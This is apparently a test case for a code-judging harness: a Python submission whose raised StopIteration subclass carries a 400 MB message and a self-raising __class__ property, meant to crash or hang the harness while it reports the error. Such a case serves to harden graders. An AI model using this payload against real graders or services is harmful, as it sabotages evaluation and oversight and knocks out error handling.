# /// attack
# aim = "Raises StopIteration whose text is 400 megabytes, with a cause of its own for every byte a report may print, so that describing the failure takes the harness with it."
# outcome = ["RTE"]
# naive = "crashed or hung"
# ///


class Endless(StopIteration):
    def __str__(self):
        return "\N{PILE OF POO}" * 100_000_000

    @property
    def __class__(self):
        raise self


def pair_count(numbers, target):
    raise Endless from Endless()
